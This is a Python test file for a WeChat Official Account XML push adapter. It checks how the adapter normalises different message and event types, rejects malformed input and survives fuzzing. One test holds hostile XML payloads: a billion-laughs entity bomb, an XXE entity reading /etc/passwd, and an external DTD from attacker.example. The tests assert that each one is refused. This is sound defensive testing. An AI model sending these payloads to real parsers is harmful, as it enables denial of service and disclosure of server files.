"""WeChat Official Account pushes (XML) → Normalised; unsafe or malformed XML → Rejected."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.intake.channels.wechat import adapt, parse, source_ref
from services.intake.normalised import ChannelContext, Normalised
from shared.runtime import Incoming, Rejected
from shared.topology import INTAKE_INBOUND

CTX = ChannelContext()
ACCOUNT = "gh_3f2a9c81d7e4"
OPENID = "oXYZ6t9dKx0Qm3bJ8wT2pL5vR1aE"
CREATED = 1764570000  # 2025-12-01T06:20:00Z


def incoming(body: bytes | str, message_id: str | None = None) -> Incoming:
    return Incoming(
        queue=INTAKE_INBOUND,
        body=body.encode() if isinstance(body, str) else body,
        routing_key="wechat",
        headers={},
        message_id=message_id,
        correlation_id=uuid.UUID("00000000-0000-4000-8000-000000000002"),
        content_type="application/xml",
        delivery_count=0,
    )


def push(msg_type: str, inner: str, *, openid: str = OPENID, created: int = CREATED) -> str:
    """A push laid out as WeChat sends it (newlines between the fields, CDATA for strings)."""
    return (
        "<xml>"
        f"<ToUserName><![CDATA[{ACCOUNT}]]></ToUserName>\n"
        f"<FromUserName><![CDATA[{openid}]]></FromUserName>\n"
        f"<CreateTime>{created}</CreateTime>\n"
        f"<MsgType><![CDATA[{msg_type}]]></MsgType>\n"
        f"{inner}"
        "</xml>"
    )


TEXT = push("text", "<Content><![CDATA[你好，我想預訂會議室]]></Content>\n<MsgId>24601234567890123</MsgId>\n")
IMAGE = push(
    "image",
    "<PicUrl><![CDATA[http://mmbiz.qpic.cn/mmbiz_jpg/abc/0]]></PicUrl>\n"
    "<MsgId>24601234567890124</MsgId>\n"
    "<MediaId><![CDATA[Kq8x_media_id_image]]></MediaId>\n",
)
VOICE = push(
    "voice",
    "<MediaId><![CDATA[voice_media_1]]></MediaId>\n<Format><![CDATA[amr]]></Format>\n"
    "<MsgId>24601234567890125</MsgId>\n<Recognition><![CDATA[明天下午有冇細房？]]></Recognition>\n",
)
VOICE_PLAIN = push(
    "voice",
    "<MediaId><![CDATA[voice_media_2]]></MediaId>\n<Format><![CDATA[speex]]></Format>\n<MsgId>24601234567890126</MsgId>\n",
)
LOCATION = push(
    "location",
    "<Location_X>22.280500</Location_X>\n<Location_Y>114.158900</Location_Y>\n<Scale>15</Scale>\n"
    "<Label><![CDATA[香港中環皇后大道中99號]]></Label>\n<MsgId>24601234567890127</MsgId>\n",
)
LINK = push(
    "link",
    "<Title><![CDATA[年會場地要求]]></Title>\n<Description><![CDATA[300人，需要舞台]]></Description>\n"
    "<Url><![CDATA[https://mp.weixin.qq.com/s/abc]]></Url>\n<MsgId>24601234567890128</MsgId>\n",
)
VIDEO = push(
    "shortvideo",
    "<MediaId><![CDATA[video_1]]></MediaId>\n<ThumbMediaId><![CDATA[thumb_1]]></ThumbMediaId>\n"
    "<MsgId>24601234567890129</MsgId>\n",
)
SUBSCRIBE = push("event", "<Event><![CDATA[subscribe]]></Event>\n<EventKey><![CDATA[]]></EventKey>\n")
SUBSCRIBE_QR = push(
    "event",
    "<Event><![CDATA[subscribe]]></Event>\n<EventKey><![CDATA[qrscene_123123]]></EventKey>\n"
    "<Ticket><![CDATA[gQHm8DoAAAAAAAAAASxodHRw]]></Ticket>\n",
)
UNSUBSCRIBE = push("event", "<Event><![CDATA[unsubscribe]]></Event>\n")
CLICK = push("event", "<Event><![CDATA[CLICK]]></Event>\n<EventKey><![CDATA[BOOK_ROOM]]></EventKey>\n")


def one(body: str | bytes) -> Normalised:
    items = adapt(incoming(body), CTX)
    assert len(items) == 1
    return items[0]


def test_text_message_is_a_free_text_inquiry() -> None:
    n = one(TEXT)
    assert n.channel == "wechat"
    assert n.kind == "inquiry"
    assert n.intent is None  # the classifier decides
    assert n.text == "你好，我想預訂會議室"
    assert n.source_ref == "24601234567890123"
    assert n.received_at == datetime(2025, 12, 1, 6, 20, tzinfo=UTC)
    assert n.received_at.tzinfo is not None
    assert n.contact is None
    assert n.channel_identity == ("wechat", OPENID)
    assert n.conversation_key == f"wechat:{OPENID}"
    assert n.flags == []
    assert n.extra == {"msg_type": "text", "account": ACCOUNT}


def test_compact_push_without_newlines() -> None:
    body = (
        "<xml><ToUserName><![CDATA[gh_abc]]></ToUserName><FromUserName><![CDATA[oXYZ]]></FromUserName>"
        "<CreateTime>1764570000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        "<Content><![CDATA[Hello, a room for 10 tomorrow?]]></Content><MsgId>1</MsgId></xml>"
    )
    n = one(body)
    assert (n.text, n.source_ref, n.conversation_key) == ("Hello, a room for 10 tomorrow?", "1", "wechat:oXYZ")


def test_redelivery_keeps_the_same_source_ref() -> None:
    first, again = one(TEXT), one(TEXT.encode())
    assert first.source_ref == again.source_ref == "24601234567890123"
    assert one(SUBSCRIBE).source_ref == one(SUBSCRIBE).source_ref


def test_image_is_recorded_not_classified() -> None:
    n = one(IMAGE)
    assert (n.kind, n.intent, n.text, n.flags) == ("inquiry", "other", "[image]", ["non_text"])
    assert n.source_ref == "24601234567890124"
    assert n.extra == {
        "msg_type": "image",
        "account": ACCOUNT,
        "pic_url": "http://mmbiz.qpic.cn/mmbiz_jpg/abc/0",
        "media_id": "Kq8x_media_id_image",
    }


def test_voice_with_recognition_keeps_the_words_but_is_not_classified() -> None:
    n = one(VOICE)
    assert n.text == "明天下午有冇細房？"
    assert n.intent == "other"
    assert n.flags == ["non_text", "speech_recognised"]
    assert n.extra["recognition"] == "明天下午有冇細房？"
    assert n.extra["format"] == "amr"


def test_voice_without_recognition() -> None:
    n = one(VOICE_PLAIN)
    assert (n.text, n.intent, n.flags) == ("[voice]", "other", ["non_text"])
    assert "recognition" not in n.extra


def test_location() -> None:
    n = one(LOCATION)
    assert n.text == "[location] 香港中環皇后大道中99號"
    assert n.intent == "other"
    assert n.extra["latitude"] == "22.280500" and n.extra["longitude"] == "114.158900"
    assert n.extra["label"] == "香港中環皇后大道中99號"


def test_link() -> None:
    n = one(LINK)
    assert n.text == "[link] 年會場地要求"
    assert n.extra["url"] == "https://mp.weixin.qq.com/s/abc"
    assert n.extra["description"] == "300人，需要舞台"
    assert n.flags == ["non_text"]


def test_short_video() -> None:
    n = one(VIDEO)
    assert (n.text, n.extra["msg_type"], n.extra["thumb_media_id"]) == ("[short video]", "shortvideo", "thumb_1")


@pytest.mark.parametrize(
    ("body", "text", "event"),
    [(SUBSCRIBE, "[subscribed]", "subscribe"), (UNSUBSCRIBE, "[unsubscribed]", "unsubscribe")],
)
def test_subscription_events(body: str, text: str, event: str) -> None:
    n = one(body)
    # an event is not a message from the customer: recorded on the conversation, never an inquiry
    assert (n.kind, n.intent, n.text) == ("status_change", None, text)
    assert n.source_ref == f"{OPENID}:{CREATED}:{event}"  # events carry no MsgId
    assert n.extra["event"] == event
    assert n.extra["status"] == event
    assert n.channel_identity == ("wechat", OPENID)


def test_subscribe_by_qr_code_keeps_scene_and_ticket() -> None:
    n = one(SUBSCRIBE_QR)
    assert n.extra["event_key"] == "qrscene_123123"
    assert n.extra["ticket"] == "gQHm8DoAAAAAAAAAASxodHRw"


def test_menu_click() -> None:
    n = one(CLICK)
    assert n.text == "[menu click] BOOK_ROOM"
    assert n.source_ref == f"{OPENID}:{CREATED}:CLICK"
    assert n.extra["event_key"] == "BOOK_ROOM"


def test_unknown_message_type_is_recorded() -> None:
    n = one(push("miniprogrampage", "<Title><![CDATA[x]]></Title><MsgId>9</MsgId>"))
    assert (n.text, n.intent, n.extra) == (
        "[miniprogrampage]",
        "other",
        {"msg_type": "miniprogrampage", "account": ACCOUNT},
    )


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE xml [\n <!ENTITY lol "lol">\n'
    ' <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    ' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
    ' <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n]>\n'
) + push("text", "<Content>&lol9;</Content><MsgId>1</MsgId>")
EXTERNAL_ENTITY = '<?xml version="1.0"?>\n<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + push(
    "text", "<Content>&xxe;</Content><MsgId>2</MsgId>"
)
EXTERNAL_DTD = '<?xml version="1.0"?>\n<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">\n' + TEXT


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
def test_entities_and_dtds_are_refused(body: str) -> None:
    with pytest.raises(Rejected, match="document type declaration is refused"):
        adapt(incoming(body), CTX)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (TEXT.replace(f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>", ""), "without FromUserName"),
        (TEXT.replace(f"<CreateTime>{CREATED}</CreateTime>", ""), "without CreateTime"),
        (TEXT.replace("<MsgType><![CDATA[text]]></MsgType>", ""), "without MsgType"),
        (TEXT.replace(f"<![CDATA[{OPENID}]]>", ""), "without FromUserName"),  # present but empty
        (push("text", "<MsgId>3</MsgId>"), "text message without Content"),
        (push("event", "<EventKey>x</EventKey>"), "event push without Event"),
        (TEXT.replace(str(CREATED), "yesterday"), "CreateTime is not epoch seconds"),
        (TEXT.replace(str(CREATED), "99999999999999999999"), "CreateTime is not epoch seconds"),
        (
            f"<xml><ToUserName><![CDATA[{ACCOUNT}]]></ToUserName><Encrypt><![CDATA[aGVsbG8=]]></Encrypt></xml>",
            "safe mode",
        ),
        ("<msg><FromUserName>o</FromUserName></msg>", "root element is <msg>"),
        ('{"MsgType": "text"}', "not well-formed XML"),
        ("", "not well-formed XML"),
        (TEXT[:-10], "not well-formed XML"),
        ('<?xml version="1.0" encoding="GBK"?>' + TEXT, "not readable XML"),
    ],
)
def test_malformed_pushes_are_rejected(body: str, reason: str) -> None:
    with pytest.raises(Rejected, match=reason):
        adapt(incoming(body), CTX)


def test_source_ref_fallback_for_pushes_without_msg_id() -> None:
    assert source_ref({"MsgId": "42", "FromUserName": "o1"}) == "42"
    assert source_ref({"FromUserName": "o1", "CreateTime": "5", "MsgType": "event", "Event": "VIEW"}) == "o1:5:VIEW"
    assert parse(TEXT.encode())["MsgId"] == "24601234567890123"


# -- fuzz: anything in → a list of Normalised or Rejected, nothing else ---------------------------
SAMPLES = [TEXT, IMAGE, VOICE, LOCATION, LINK, SUBSCRIBE_QR, CLICK]


def check_outcome(body: bytes) -> None:
    try:
        result = adapt(incoming(body), CTX)
    except Rejected as rej:
        assert rej.reason
        return
    assert isinstance(result, list) and result
    for n in result:
        assert isinstance(n, Normalised) and n.source_ref and n.received_at.tzinfo is not None


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_fuzz_arbitrary_bytes(body: bytes) -> None:
    check_outcome(body)


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    raw = bytearray(draw(st.sampled_from(SAMPLES)).encode())
    for _ in range(draw(st.integers(1, 6))):
        op = draw(st.sampled_from(["flip", "delete", "insert", "truncate"]))
        pos = draw(st.integers(0, max(len(raw) - 1, 0)))
        if op == "flip" and raw:
            raw[pos] = draw(st.integers(0, 255))
        elif op == "delete" and raw:
            del raw[pos : pos + draw(st.integers(1, 20))]
        elif op == "insert":
            snippet = draw(
                st.sampled_from(
                    [b"<", b"]]>", b"&amp;", b"&x;", b"<![CDATA[", b"</xml>", b"<MsgId>1</MsgId>", b"\x00", b"\xff"]
                )
                | st.binary(max_size=8)
                | st.text(max_size=8).map(str.encode)
            )
            raw[pos:pos] = snippet
        elif op == "truncate":
            del raw[pos:]
    return bytes(raw)


@settings(max_examples=300, deadline=None)
@given(mutated())
def test_fuzz_mutated_pushes(body: bytes) -> None:
    check_outcome(body)


@settings(max_examples=300, deadline=None)
@given(
    content=st.text(min_size=1).filter(lambda s: "]]>" not in s),
    created=st.integers(0, 2**40),
    msg_id=st.from_regex(r"[0-9]{1,20}", fullmatch=True),
)
def test_fuzz_field_values(content: str, created: int, msg_id: str) -> None:
    body = push("text", f"<Content><![CDATA[{content}]]></Content><MsgId>{msg_id}</MsgId>", created=created)
    check_outcome(body.encode("utf-8", "surrogatepass"))
